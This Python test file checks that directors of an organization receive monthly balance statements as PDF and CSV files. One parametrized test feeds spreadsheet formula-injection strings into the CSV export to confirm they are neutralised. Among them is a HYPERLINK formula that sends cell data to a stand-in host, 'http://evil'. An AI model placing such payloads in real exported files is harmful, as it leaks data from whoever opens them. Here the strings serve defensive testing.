"""Statements of organizations: on demand and on the first of the month, to who leads them now."""

import csv
import io
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from sqlalchemy import text

from db.database import Database
from db.models import ClientRole
from desk.text.spreadsheets.formula_guard import guard_cell
from tests.flows.clients import directed, joined
from tests.flows.paying import ADVANCE
from tests.flows.phone import Phone
from tests.flows.scenes import row, taken
from tests.flows.stage import Stage, staged
from tests.texts import LANGUAGES, text_of

pytestmark = pytest.mark.sentence("Payments")

BOARD = False


@pytest_asyncio.fixture(params=LANGUAGES)
async def stage(database: Database, request: pytest.FixtureRequest) -> AsyncIterator[Stage]:
    """A desk with balances."""
    async with staged(database, board=False, **ADVANCE) as made, made.speaking(request.param):
        yield made


async def _moved(stage: Stage, rita: Phone, olga: Phone, reason: str = "=contract") -> tuple[Phone, int, int]:
    """Return a director whose organization paid 1,000 and was charged 950, with the ids of both."""
    dora, organization, membership = await directed(stage)
    number = await taken(rita, olga)
    async with stage.database.unit_of_work() as session:
        await session.execute(text(f"update tickets set organization_id = {organization}"))  # noqa: S608
    await stage.vera.writes(f"/balance {number} +1000 {reason}")
    await olga.writes(f"/price {number} 950")
    return dora, organization, membership


async def _files(phone: Phone) -> list[str]:
    return [file["name"] for one in await phone.received() for file in one["files"]]


async def test_a_director_gets_the_statement_of_a_month(stage: Stage, rita: Phone, olga: Phone) -> None:
    dora, _, _ = await _moved(stage, rita, olga)
    month = f"{stage.clock():%Y-%m}"
    await dora.writes(f"/balance statement {month}")
    assert await _files(dora) == [f"statement-{month}.pdf", f"statement-{month}.csv"]
    assert text_of("statement-soon", month=month) in await dora.texts()
    assert await dora.reads() == text_of("statement-title", month=month, name="Acme")
    pdf, table = await _contents(stage)
    assert pdf.startswith(b"%PDF")
    rows = list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"))))
    assert [(one["kind"], one["amount"], one["reason"]) for one in rows] == [
        ("correction", "1000.00", "'=contract"),
        ("charge", "-950.00", ""),
    ]
    await rita.writes("/balance statement")
    assert await rita.reads() == text_of("statement-nobody")
    await dora.writes("/balance statement 31.11")
    assert await dora.reads() == text_of("usage-statement")


@pytest.mark.parametrize("reason", ['ok;=HYPERLINK("http://evil/?"&A1;"x")', "＝1+1", "paid\n=1+1", "@SUM(A1)"])
async def test_no_part_of_a_reason_is_a_formula(stage: Stage, rita: Phone, olga: Phone, reason: str) -> None:
    dora, _, _ = await _moved(stage, rita, olga, reason)
    await dora.writes(f"/balance statement {stage.clock():%Y-%m}")
    _, table = await _contents(stage)
    (found, *_) = [one["reason"] for one in csv.DictReader(io.StringIO(table.decode("utf-8-sig")))]
    assert found == guard_cell(reason, ",") != reason


async def _contents(stage: Stage) -> list[bytes]:
    async with stage.database.reading() as session:
        found = await session.execute(text("select content from report_results order by id"))
        return [bytes(one) for (one,) in found]


async def test_last_months_come_once_on_the_first_day(stage: Stage, rita: Phone, olga: Phone) -> None:
    dora, organization, _ = await _moved(stage, rita, olga)
    adam = await stage.phone("Adam")
    await joined(stage, adam, organization, ClientRole.ADMINISTRATOR)
    month = f"{stage.clock():%Y-%m}"
    await stage.pass_time(days=13)
    for _ in range(2):
        for phone in (dora, adam):
            assert await _files(phone) == [f"statement-{month}.pdf", f"statement-{month}.csv"]
        assert await _files(rita) == []
        await stage.reopen()
        await stage.settle()
    (planned,) = await row(stage, "select statements_at from desk")
    assert planned > stage.clock()


async def test_who_no_longer_leads_gets_none(stage: Stage, rita: Phone, olga: Phone) -> None:
    dora, _, membership = await _moved(stage, rita, olga)
    await dora.writes("/balance statement", quietly=True)
    async with stage.database.unit_of_work() as session:
        await session.execute(text(f"update memberships set role = 'user' where id = {membership}"))  # noqa: S608
    await stage.settle()
    assert await _files(dora) == []
